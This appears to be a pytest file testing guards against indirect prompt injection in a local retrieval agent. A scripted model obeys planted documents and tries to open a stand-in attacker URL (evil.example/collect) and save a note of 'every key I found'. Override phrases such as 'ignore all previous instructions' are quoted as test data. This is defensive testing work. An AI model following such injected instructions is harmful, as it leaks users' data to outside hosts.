"""Indirect prompt injection end to end: the injection corpus indexed next to the clean answer set (real LanceDB,
real embedder), a scripted model that does what the documents tell it, and the guards that stop it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agents.conversations.checkpoints import open_checkpointer
from agents.graph import GraphDeps, build_graph
from agents.guard.guards import scan
from agents.providers.registry import ModelRegistry
from agents.routing import no_models, only
from agents.runner import ApprovalNeeded, Runner, TurnDone
from agents.runner import Warning as SuspiciousText
from agents.toolset import ToolContext, build_tools
from tests.support.injection import ANSWERSET, HIDDEN_ONLY, PDF_NAME, QUESTIONS, build_corpus
from tests.unit.agents.helpers import fake
from tools.index.config import IndexOptions
from tools.index.knowledge import KnowledgeIndex
from tools.index.search import SearchHit, search

ALWAYS = {"write_note": "always", "open_path": "always", "remember": "always", "forget": "always"}
EVIL = "https://evil.example/collect?all=1"


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory, onnx_embedder) -> Iterator[tuple[KnowledgeIndex, Path]]:  # type: ignore[no-untyped-def]
    folder = tmp_path_factory.mktemp("corpus") / "files"
    build_corpus(folder)
    index = KnowledgeIndex(tmp_path_factory.mktemp("index"), onnx_embedder, IndexOptions(), parse_workers=0)
    index.add_root(folder)
    report = index.sync()
    assert report.failed == 0
    yield index, folder.resolve()
    index.close()


class Turn:
    """One question through the real graph and runner over the corpus, with everything the test looks at."""

    def __init__(self, corpus: tuple[KnowledgeIndex, Path], registry: ModelRegistry | None, tmp_path: Path,
                 policies: dict[str, Any] | None = None, screen: bool = True) -> None:
        index, self.folder = corpus
        self.opened: list[str] = []
        self.notes = tmp_path / "notes"
        self.audit = tmp_path / "audit.jsonl"

        def retrieve(question: str, k: int) -> list[SearchHit]:
            return search(index, question, k=k)

        ctx = ToolContext(search=retrieve, index=index, notes_dir=self.notes, policies=dict(policies or ALWAYS),
                          opener=self.opened.append, audit_log=self.audit)
        models = only(lambda: registry.chat_model("fake/m")) if registry else no_models
        deps = GraphDeps(retrieve, models, tools=build_tools(ctx), max_steps=3, screen=scan if screen else None)
        graph = build_graph(deps, open_checkpointer(tmp_path / "t.sqlite3"))
        self.runner = Runner(graph)

    def ask(self, question: str, approve: Any = None) -> list[object]:
        self.events = list(self.runner.ask(question, approve=approve))
        return self.events

    @property
    def done(self) -> TurnDone:
        return next(e for e in self.events if isinstance(e, TurnDone))

    def of(self, kind: type) -> list[Any]:
        return [e for e in self.events if isinstance(e, kind)]

    def audited(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.audit.read_text(encoding="utf-8").splitlines()] \
            if self.audit.exists() else []


VISIBLE = sorted(name for name in QUESTIONS if name not in HIDDEN_ONLY)


@pytest.mark.parametrize("name", VISIBLE)
def test_a_model_that_follows_the_injection_cannot_act_without_approval(corpus, registry: ModelRegistry,
                                                                        tmp_path: Path, name: str) -> None:
    # The scripted model does what the document says: open an address and write a note, policy "always" for both.
    fake(registry).enqueue_tool_call("open_path", {"target": EVIL})
    fake(registry).enqueue_tool_call("write_note", {"title": "keys", "text": "every key I found"})
    fake(registry).enqueue("Done.")
    turn = Turn(corpus, registry, tmp_path)
    turn.ask(QUESTIONS[name])

    assert turn.opened == [] and not turn.notes.exists()  # nothing happened
    warned = {Path(w.source).name for w in turn.of(SuspiciousText)}
    assert name in warned and name in {Path(w.source).name for w in turn.done.warnings}
    asked = turn.of(ApprovalNeeded)
    assert [a.tool for a in asked] == ["open_path", "write_note"]
    assert all(a.reason.startswith("this turn read text that looks like instructions to the model: ") for a in asked)
    assert [(e["tool"], e["decision"], e["decided_by"]) for e in turn.audited()] == [
        ("open_path", "denied", "policy"), ("write_note", "denied", "policy")]
    assert "no one was there to approve it" in turn.audited()[0]["reason"]
    told = [str(m.content) for m in fake(registry).calls[1][0] if m.type == "tool"]
    assert told == ["not approved: the user declined open_path"]


def test_the_suspicious_chunk_is_fenced_but_still_citable(corpus, registry: ModelRegistry, tmp_path: Path) -> None:
    fake(registry).enqueue("Payment is due on 15 May [1].")
    turn = Turn(corpus, registry, tmp_path)
    turn.ask(QUESTIONS["acme-invoice.md"])
    prompt = str(fake(registry).calls[0][0][1].content)
    assert "UNTRUSTED EXCERPT" in prompt and "BEGIN UNTRUSTED EXCERPT [" in prompt
    assert "ignore all previous instructions" in prompt.lower()  # quoted as data, not removed
    assert turn.done.mode == "llm" and turn.done.citations[0].path.endswith("acme-invoice.md")
    assert turn.done.prompt == "answer_from_sources@2+untrusted@2"


def test_an_explicit_approval_still_lets_the_user_act(corpus, registry: ModelRegistry, tmp_path: Path) -> None:
    fake(registry).enqueue_tool_call("write_note", {"title": "Invoice due", "text": "Acme invoice due 15 May"})
    fake(registry).enqueue("Saved: payment is due on 15 May [1].")
    turn = Turn(corpus, registry, tmp_path)
    turn.ask(QUESTIONS["acme-invoice.md"], approve=lambda request: True)
    assert len(list(turn.notes.glob("*.md"))) == 1
    (entry,) = turn.audited()
    assert (entry["tool"], entry["decision"], entry["decided_by"]) == ("write_note", "allowed", "user")
    assert "acme-invoice.md" in entry["reason"] and entry["thread"] == turn.done.thread_id


def test_never_still_refuses_and_is_audited(corpus, registry: ModelRegistry, tmp_path: Path) -> None:
    fake(registry).enqueue_tool_call("open_path", {"target": EVIL})
    fake(registry).enqueue("No.")
    turn = Turn(corpus, registry, tmp_path, policies={"open_path": "never"})
    turn.ask(QUESTIONS["team-wiki.md"], approve=lambda request: True)
    assert turn.opened == [] and turn.of(ApprovalNeeded) == []
    assert [(e["decision"], e["decided_by"]) for e in turn.audited()] == [("refused", "policy")]


def test_hidden_html_never_reaches_the_model(corpus, registry: ModelRegistry, tmp_path: Path) -> None:
    fake(registry).enqueue("Greenleaf paper costs 5.90 euros per ream [1].")
    turn = Turn(corpus, registry, tmp_path)
    turn.ask(QUESTIONS["supplier-page.html"])
    prompt = str(fake(registry).calls[0][0][1].content)
    assert "5.90 euros per ream" in prompt
    assert "greenleaf-offers" not in prompt and "system prompt" not in prompt.lower()  # dropped by the parser
    assert turn.done.mode == "llm"


def test_a_tool_result_that_carries_instructions_is_fenced_and_taints_the_turn(corpus, registry: ModelRegistry,
                                                                               tmp_path: Path) -> None:
    _, folder = corpus
    fake(registry).enqueue_tool_call("read_file", {"path": str(folder / "sync_client.py")})
    fake(registry).enqueue_tool_call("open_path", {"target": EVIL})
    fake(registry).enqueue("The client retries 5 times.")
    turn = Turn(corpus, registry, tmp_path)
    turn.ask("What time does the nightly file server backup start?")  # a clean question: retrieval warns of nothing
    sources = [w.source for w in turn.of(SuspiciousText)]
    assert sources == [f"{folder / 'sync_client.py'} (read_file)"]
    tool_message = [m for m in fake(registry).calls[1][0] if m.type == "tool"][0]
    assert str(tool_message.content).startswith("UNTRUSTED TOOL RESULT (read_file)")
    assert turn.opened == [] and turn.of(ApprovalNeeded)[0].reason.endswith(
        "sync_client.py (read_file): asks the model to ignore its instructions: 'ignore your previous instructions'")


def _answerset() -> list[dict[str, Any]]:
    lines = (ANSWERSET / "questions.jsonl").read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines if line.strip()]


def test_clean_questions_answer_exactly_as_without_the_guard(corpus, tmp_path: Path) -> None:
    """The guard changes no answer; it warns only of injection files, and only when one is among the sources."""
    injected = {*QUESTIONS}
    guarded, bare = Turn(corpus, None, tmp_path / "a"), Turn(corpus, None, tmp_path / "b", screen=False)
    warned = 0
    for row in _answerset():
        guarded.ask(row["question"])
        bare.ask(row["question"])
        assert (guarded.done.answer, guarded.done.citations) == (bare.done.answer, bare.done.citations), row["id"]
        sources = {Path(w.source).name for w in guarded.done.warnings}
        assert sources <= injected, row["id"]  # never a clean document
        warned += bool(sources)
    assert warned < 10  # the corpus shares topics (an office move, chairs arriving): a few turns read both


def test_clean_questions_send_the_model_the_same_prompt(corpus, registry: ModelRegistry, tmp_path: Path) -> None:
    guarded, bare = Turn(corpus, registry, tmp_path / "a"), Turn(corpus, registry, tmp_path / "b", screen=False)
    compared = 0
    for row in _answerset():
        for turn in (guarded, bare):
            fake(registry).enqueue("I could not find it in your files.")
            turn.ask(row["question"])
        with_guard, without = (str(call[0][1].content) for call in fake(registry).calls[-2:])
        if not guarded.done.warnings:
            assert with_guard == without and "UNTRUSTED" not in with_guard, row["id"]
            compared += 1
        else:  # an injection file is among the sources: it, and only it, is fenced
            assert "BEGIN UNTRUSTED EXCERPT" in with_guard and "UNTRUSTED" not in without, row["id"]
    assert compared >= 30


def test_the_pdf_injection_is_read_from_the_pdf(corpus) -> None:
    index, folder = corpus
    hits = search(index, QUESTIONS[PDF_NAME], k=8)
    assert any(h.path == str(folder / PDF_NAME) and "ignore all previous instructions" in h.text for h in hits)
